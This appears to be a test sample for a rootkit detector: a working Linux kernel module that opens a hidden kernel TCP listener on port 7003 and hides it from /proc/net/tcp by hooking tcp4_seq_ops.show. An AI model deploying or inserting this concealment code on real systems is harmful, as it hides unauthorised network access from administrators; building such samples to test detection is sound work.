// Test rootkit: a backdoor listener on TCP port 7003 opened inside the kernel
// (sock_create_kern + kernel_bind + kernel_listen in init_net: no process, no
// file), hidden from /proc/net/tcp by pointing tcp4_seq_ops.show at its own
// filter (chained to whatever show was there), as nfm_rk_hook_proc does.
#include <linux/in.h>
#include <linux/module.h>
#include <linux/net.h>
#include <linux/seq_file.h>
#include <net/net_namespace.h>
#include <net/sock.h>

#include "nfm_rk.h"

#define BACKDOOR_PORT 7003

static struct socket* listener;
static struct seq_operations* ops;
static int (*original_show)(struct seq_file*, void*);

static int backdoor_show(struct seq_file* seq, void* v) {
  if (v != SEQ_START_TOKEN && ((struct sock*)v)->sk_num == BACKDOOR_PORT) return 0;
  return original_show(seq, v);
}

static int __init backdoor_init(void) {
  struct sockaddr_in addr = {
      .sin_family = AF_INET,
      .sin_port = htons(BACKDOOR_PORT),
      .sin_addr = {.s_addr = htonl(INADDR_ANY)},
  };
  int err;
  ops = (struct seq_operations*)nfm_rk_lookup("tcp4_seq_ops");
  if (!ops) return -ENOENT;
  err = sock_create_kern(&init_net, PF_INET, SOCK_STREAM, IPPROTO_TCP, &listener);
  if (err) return err;
  err = kernel_bind(listener, (struct sockaddr*)&addr, sizeof addr);
  if (!err) err = kernel_listen(listener, 8);
  if (err) {
    sock_release(listener);
    return err;
  }
  original_show = ops->show;
  nfm_rk_write_protected((void**)&ops->show, backdoor_show);
  pr_info("nfm_rk_backdoor: listening on %d, hidden from /proc/net/tcp\n", BACKDOOR_PORT);
  return 0;
}

static void __exit backdoor_exit(void) {
  nfm_rk_write_protected((void**)&ops->show, original_show);
  sock_release(listener);
}

module_init(backdoor_init);
module_exit(backdoor_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("nfm test rootkit: hidden kernel listener");
